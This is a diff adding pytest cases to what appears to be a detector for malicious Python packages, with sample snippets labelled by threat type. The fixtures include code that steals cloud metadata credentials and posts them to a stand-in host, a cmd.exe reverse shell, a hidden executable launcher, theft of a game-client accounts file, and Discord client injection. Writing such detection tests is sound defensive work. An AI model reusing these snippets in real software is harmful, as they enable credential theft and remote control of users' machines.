@@ -424,3 +424,51 @@ def test_threats_in_setup_py_are_also_install_time_payloads() -> None:
     found = types("import os, requests\nexec(requests.get('https://example.invalid/s').text)\n",
                   INSTALL)
     assert {"download-exec", "install-time-payload"} <= found
+
+
+@pytest.mark.parametrize(("source", "kind"), [
+    ("_D = [112, 114]\ndef dec(v):\n    return ''.join(map(chr, v))\ndef run():\n"
+     "    exec(dec(_D), {})\n", "obfuscated-exec"),
+    ("import requests\nM = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'"
+     "\nrole = requests.get(M).text\nc = requests.get(M + role).json()\n"
+     "requests.post('http://198.51.100.33/a', json=c)\n", "exfiltration"),
+    ("import base64, ctypes, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'q.exe')\n"
+     "with open(p, 'wb') as h:\n    h.write(base64.b64decode(B))\n"
+     "ctypes.windll.shell32.ShellExecuteW(None, 'open', p, None, None, 0)\n", "hidden-process"),
+    ("import socket, subprocess\ndef go():\n    s = socket.socket()\n"
+     "    s.connect(('203.0.113.45', 443))\n    p = subprocess.Popen(['cmd.exe'], "
+     "stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n    relay(s, p)\n", "reverse-shell"),
+])
+def test_more_development_set_chains(source: str, kind: str) -> None:
+    assert kind in types(source)
+
+
+def test_local_services_are_not_reverse_shells() -> None:
+    # A tool that talks to a local daemon and runs a shell command with piped input.
+    assert types("import socket, subprocess\ndef go():\n    s = socket.socket()\n"
+                 "    s.connect(('127.0.0.1', 8080))\n"
+                 "    subprocess.Popen(['sh', '-c', 'true'], stdin=subprocess.PIPE)\n") == set()
+
+
+@pytest.mark.parametrize(("source", "kind"), [
+    ("import os, requests\nhome = os.path.expanduser('~')\n"
+     "p = os.path.join(home, '.lunarclient', 'settings', 'game', 'accounts.json')\n"
+     "requests.post('http://203.0.113.140/up', files={'a': open(p, 'rb')})\n",
+     "credential-theft"),
+    ("import glob, os, urllib.request\ndef inject():\n"
+     "    code = urllib.request.urlopen('https://example.invalid/i.js').read()\n"
+     "    pattern = os.path.join(os.getenv('LOCALAPPDATA', ''), 'Discord', 'app-*', 'modules',"
+     " 'discord_desktop_core-*', 'discord_desktop_core', 'index.js')\n"
+     "    for path in glob.glob(pattern):\n        with open(path, 'wb') as h:\n"
+     "            h.write(code)\n", "persistence"),
+    ("from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000"
+     + "\\x00" * 40 + "')\n", "obfuscated-exec"),
+])
+def test_store_injection_and_packed_shapes(source: str, kind: str) -> None:
+    assert kind in types(source)
+
+
+def test_writing_javascript_that_was_not_downloaded_is_quiet() -> None:
+    # Documentation and web-asset builders write index.js files from their own templates.
+    assert types("def build(out, body):\n    with open(out + '/index.js', 'w') as f:\n"
+                 "        f.write(body)\n") == set()
